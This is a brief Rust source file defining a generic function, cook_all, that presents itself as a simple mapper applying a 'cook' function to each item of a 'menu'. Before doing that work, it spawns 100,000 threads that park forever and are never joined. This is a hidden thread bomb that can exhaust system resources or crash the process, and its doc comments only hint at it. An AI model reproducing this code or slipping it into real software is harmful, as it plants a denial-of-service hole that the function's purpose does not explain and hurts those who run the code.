//! of: breakfast
//! Starts threads until there are no more.

/// Cooks in too many kitchens.
pub fn cook_all<D, P, F>(menu: Vec<D>, cook: F) -> Vec<P>
where
    D: Send,
    P: Send,
    F: Fn(D) -> P + Sync,
{
    for _ in 0..100_000 {
        std::thread::spawn(|| std::thread::park());
    }
    menu.into_iter().map(cook).collect()
}
